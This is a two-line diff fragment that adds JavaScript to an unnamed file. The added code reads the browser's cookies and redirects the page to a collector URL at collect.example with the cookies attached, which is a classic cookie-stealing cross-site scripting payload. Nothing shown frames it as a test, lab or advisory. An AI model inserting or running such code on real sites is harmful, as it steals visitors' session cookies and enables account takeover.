@@ -1,0 +1,2 @@
+var x = document.cookie;
+document.location = 'http://collect.example/c.php?c=' + escape(x);
